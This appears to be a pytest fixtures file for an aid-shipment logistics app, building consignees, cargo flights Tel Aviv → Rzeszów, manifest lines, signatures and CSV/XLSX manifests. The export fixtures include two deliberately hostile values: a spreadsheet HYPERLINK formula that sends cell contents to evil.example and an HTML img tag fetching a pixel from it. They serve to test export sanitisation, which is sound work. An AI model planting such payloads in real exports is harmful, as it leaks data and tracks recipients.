"""Fixtures of the aid tests. Several helpers add to this file: each block says whose it is."""

import io

import pytest


@pytest.fixture(autouse=True)
def _own_document_root(settings, tmp_path):
    """Each test sees only the document files (clearance papers, receipts) it wrote."""
    settings.CRISISDESK_DOCUMENT_ROOT = tmp_path / "documents"


# --- services, selectors, tonnage, lines and sitrep tests -----------------------------------
# Personas come from the suite's `users`; `logistics_officer` does the writing unless a test
# says otherwise. Factories here go through the real services, never around them.


@pytest.fixture
def polish_red_cross(users):
    """The consignee organisation of the Rzeszów flights, with a contact person."""
    from crisisdesk.aid.services import consignee_create
    from crisisdesk.common.origin import SYSTEM

    return consignee_create(
        actor=users["logistics_officer"],
        origin=SYSTEM,
        name="Polski Czerwony Krzyż, Rzeszów",
        country="pl",
        contact_name="Agnieszka Nowak",
        contact_phone="+48 17 862 11 00",
        contact_email="agnieszka.nowak@example.org",
    )


@pytest.fixture
def plan_shipment(users, polish_red_cross):
    """`plan_shipment(mode=Mode.TRUCK)` plans a shipment Tel Aviv → Rzeszów as the logistics officer."""
    from crisisdesk.aid.models import Mode
    from crisisdesk.aid.services import ShipmentInput, shipment_create
    from crisisdesk.common.origin import SYSTEM

    def plan(*, mode=Mode.CARGO_FLIGHT, actor=None, **fields):
        data = ShipmentInput(
            mode=mode,
            origin=fields.pop("origin", "Tel Aviv (TLV)"),
            destination=fields.pop("destination", "Rzeszów (RZE)"),
            consignee=fields.pop("consignee", polish_red_cross),
            carrier=fields.pop("carrier", "Challenge Airlines"),
            vehicle_number=fields.pop("vehicle_number", "5C-801"),
            **fields,
        )
        return shipment_create(actor=actor or users["logistics_officer"], origin=SYSTEM, data=data)

    return plan


@pytest.fixture
def typed_line():
    """`typed_line(gross_weight_kg="250.5")` is a manifest line as typed into the form (a LineInput)."""
    from crisisdesk.aid.lines import line_parse

    def line(**values):
        raw = {
            "item": "Paracetamol 500 mg, boxes of 20",
            "category": "medical",
            "quantity": "100",
            "unit": "box",
            "gross_weight_kg": "250.5",
            **values,
        }
        return line_parse(raw)

    return line


@pytest.fixture
def drawn_signature_png() -> bytes:
    """A signature as the handover page's canvas sends it: dark strokes on a transparent canvas."""
    from PIL import Image, ImageDraw

    canvas = Image.new("RGBA", (300, 120), (0, 0, 0, 0))
    pen = ImageDraw.Draw(canvas)
    pen.line([(20, 90), (60, 30), (110, 85), (160, 25), (250, 70)], fill=(20, 20, 60, 255), width=4)
    buffer = io.BytesIO()
    canvas.save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def blank_canvas_png() -> bytes:
    """What the canvas sends when nobody signed: every pixel transparent."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGBA", (300, 120), (0, 0, 0, 0)).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def signed_receipt_pdf() -> bytes:
    """A scanned, signed delivery receipt: a real one-page PDF."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.fixture
def walk_shipment(users, typed_line, drawn_signature_png):
    """`walk_shipment(shipment, Status.ARRIVED)` moves it forward one real step at a time,
    completing what each guard asks for on the way (clearances granted, a manifest line, a
    signed handover). Returns the shipment as it is then."""
    from crisisdesk.aid.models import STATUS_ORDER, ClearanceItem, Status
    from crisisdesk.aid.services import clearance_update, handover_record, line_add, shipment_move
    from crisisdesk.common.origin import SYSTEM

    officer = users["logistics_officer"]

    def walk(shipment, to_status, *, at=None):
        shipment.refresh_from_db()
        while STATUS_ORDER.index(shipment.status) < STATUS_ORDER.index(to_status):
            following = STATUS_ORDER[STATUS_ORDER.index(shipment.status) + 1]
            if following == Status.CLEARED:
                for item in shipment.clearances.exclude(state=ClearanceItem.State.NOT_REQUIRED):
                    clearance_update(actor=officer, origin=SYSTEM, item=item, state=ClearanceItem.State.GRANTED)
            if following == Status.DEPARTED and not shipment.lines.exists():
                line_add(actor=officer, origin=SYSTEM, shipment=shipment, line=typed_line())
            if following == Status.HANDED_OVER:
                handover_record(
                    actor=officer,
                    origin=SYSTEM,
                    shipment=shipment,
                    receiver_name="Agnieszka Nowak",
                    receiver_organisation="Polski Czerwony Krzyż",
                    signature_png=drawn_signature_png,
                    handed_over_at=at,
                )
            else:
                shipment_move(actor=officer, origin=SYSTEM, shipment=shipment, to_status=following, at=at)
            shipment.refresh_from_db()
        return shipment

    return walk


# --- manifest import tests (test_manifest_import.py) ----------------------------------------
# Real files, built in the test: CSV through the csv module and written in the encoding the
# test names, XLSX through openpyxl.


@pytest.fixture
def shipment(plan_shipment):
    """A cargo flight Tel Aviv → Rzeszów, planned by the logistics officer, manifest empty."""
    return plan_shipment()


@pytest.fixture
def manifest_csv():
    """`manifest_csv(rows, delimiter=";", encoding="cp1251")`: rows (the header first) as CSV bytes."""
    import csv

    def build(rows, *, delimiter=",", encoding="utf-8") -> bytes:
        buffer = io.StringIO(newline="")
        csv.writer(buffer, delimiter=delimiter).writerows(rows)
        return buffer.getvalue().encode(encoding)

    return build


@pytest.fixture
def manifest_xlsx():
    """`manifest_xlsx(rows)`: rows (the header first) as an XLSX workbook's first sheet; cells
    keep their Python types (numbers, dates, None), as a spreadsheet stores them."""
    from openpyxl import Workbook

    def build(rows, *, sheet_title="Manifest") -> bytes:
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = sheet_title
        for row in rows:
            sheet.append(list(row))
        workbook.create_sheet("Notes").append(["This sheet is not the manifest"])
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()

    return build


# --- export tests (test_exports.py) ---------------------------------------------------------
# One cargo flight with a line per kind of cell an export must get right: weights whose
# per-line tonnes would not add up to the total's, cold chain, lot and expiry, a Hebrew item,
# and a donor and an item that try to run as a formula or to fetch an image.

_EXPORT_HOSTILE_ITEM = '=HYPERLINK("http://evil.example/?"&A1,"Generators 5 kVA")'
_EXPORT_HOSTILE_DONOR = '<img src="http://evil.example/pixel.png"> Donor'


@pytest.fixture
def export_post():
    """The receiving post of the flights: the forward team at Rzeszów."""
    from datetime import timedelta

    from django.utils import timezone

    from crisisdesk.border.models import Mission, Post

    mission = Mission.objects.create(name="Embassy of Israel in Poland", country="PL")
    return Post.objects.create(
        mission=mission,
        kind=Post.Kind.FORWARD_TEAM,
        name="Rzeszów forward team",
        city="Rzeszów",
        country="PL",
        opened_at=timezone.now() - timedelta(days=3),
    )


@pytest.fixture
def export_lines():
    """The manifest of the export tests, as LineInput values, in line order."""
    from datetime import date
    from decimal import Decimal

    from crisisdesk.aid.lines import LineInput

    return [
        LineInput(
            item="Trauma kits",
            category="medical",
            quantity=Decimal("120"),
            unit="kit",
            gross_weight_kg=Decimal("1234.5"),
            pallets=Decimal("2"),
            volume_m3=Decimal("3.2"),
            lot="TK-2201",
            expiry_date=date(2030, 6, 30),
            donor="Magen David Adom",
        ),
        LineInput(
            item="Insulin pens",
            category="medical",
            quantity=Decimal("400"),
            unit="box",
            gross_weight_kg=Decimal("765.5"),
            pallets=Decimal("1.5"),
            volume_m3=Decimal("1.25"),
            lot="INS-77",
            expiry_date=date(2029, 1, 31),
            cold_chain=True,
            donor="Sheba Medical Center",
        ),
        LineInput(
            item="Food parcels",
            category="food",
            quantity=Decimal("300"),
            unit="box",
            gross_weight_kg=Decimal("2345.5"),
            pallets=Decimal("5"),
            volume_m3=Decimal("6.0"),
            donor=_EXPORT_HOSTILE_DONOR,
        ),
        LineInput(
            item="שמיכות צמר",
            category="winter",
            quantity=Decimal("1000"),
            unit="pcs",
            gross_weight_kg=Decimal("1200.25"),
            pallets=Decimal("4"),
            volume_m3=Decimal("8.5"),
            donor="Latet",
        ),
        LineInput(
            item=_EXPORT_HOSTILE_ITEM,
            category="power",
            quantity=Decimal("6"),
            unit="pcs",
            gross_weight_kg=Decimal("1800.4"),
            pallets=Decimal("6"),
            volume_m3=Decimal("7.75"),
            donor="Ministry of Foreign Affairs",
        ),
    ]


@pytest.fixture
def export_shipment(users, plan_shipment, export_post, export_lines):
    """The flight Tel Aviv → Rzeszów with `export_lines`, its clearances granted with their
    dates and numbers, arrived: moved along through the services, step by step."""
    from datetime import UTC, date, datetime

    from crisisdesk.aid.models import ClearanceItem, Status
    from crisisdesk.aid.services import clearance_update, line_add, shipment_move
    from crisisdesk.common.origin import SYSTEM

    officer = users["logistics_officer"]
    shipment = plan_shipment(
        receiving_post=export_post,
        planned_departure=datetime(2022, 3, 7, 6, 0, tzinfo=UTC),
        planned_arrival=datetime(2022, 3, 7, 10, 30, tzinfo=UTC),
    )
    for line in export_lines:
        line_add(actor=officer, origin=SYSTEM, shipment=shipment, line=line)
    shipment_move(actor=officer, origin=SYSTEM, shipment=shipment, to_status=Status.LOADING)
    for number, item in enumerate(shipment.clearances.order_by("id"), start=1):
        clearance_update(
            actor=officer,
            origin=SYSTEM,
            item=item,
            state=ClearanceItem.State.GRANTED,
            on=date(2022, 3, 6),
            reference_number=f"CLR-{number:03d}",
        )
    for status, at in [
        (Status.CLEARED, datetime(2022, 3, 6, 20, 0, tzinfo=UTC)),
        (Status.DEPARTED, datetime(2022, 3, 7, 6, 20, tzinfo=UTC)),
        (Status.ARRIVED, datetime(2022, 3, 7, 10, 45, tzinfo=UTC)),
    ]:
        shipment_move(actor=officer, origin=SYSTEM, shipment=shipment, to_status=status, at=at)
    shipment.refresh_from_db()
    return shipment


@pytest.fixture
def export_discrepancies():
    """What did not arrive as sent: (line number, kind, quantity)."""
    return [(3, "short", "10"), (4, "damaged", "50"), (2, "over", "10")]


@pytest.fixture
def export_delivered(users, export_shipment, export_discrepancies, drawn_signature_png):
    """`export_shipment` with its discrepancies recorded on arrival, then signed for."""
    from datetime import UTC, datetime

    from crisisdesk.aid.services import discrepancy_add, handover_record
    from crisisdesk.common.origin import SYSTEM

    officer = users["logistics_officer"]
    for number, kind, quantity in export_discrepancies:
        line = export_shipment.lines.get(line_number=number)
        discrepancy_add(actor=officer, origin=SYSTEM, line=line, kind=kind, quantity=quantity)
    handover_record(
        actor=officer,
        origin=SYSTEM,
        shipment=export_shipment,
        receiver_name="Marek Zieliński",
        receiver_organisation="Polski Czerwony Krzyż",
        handed_over_at=datetime(2022, 3, 7, 12, 15, tzinfo=UTC),
        signature_png=drawn_signature_png,
    )
    export_shipment.refresh_from_db()
    return export_shipment
